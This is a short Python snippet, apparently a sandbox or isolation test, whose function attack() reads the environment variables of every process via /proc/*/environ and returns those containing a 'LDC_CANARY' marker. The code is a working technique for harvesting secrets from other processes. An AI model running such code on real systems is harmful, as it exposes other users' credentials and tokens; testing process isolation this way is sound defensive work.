# Reads the environment of the parent and of every other process.
import glob


def attack():
    found = []
    for name in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(name, errors="replace") as file:
                found.append(file.read())
        except OSError:
            pass
    return [text[text.find("LDC_CANARY") :] for text in found if "LDC_CANARY" in text]
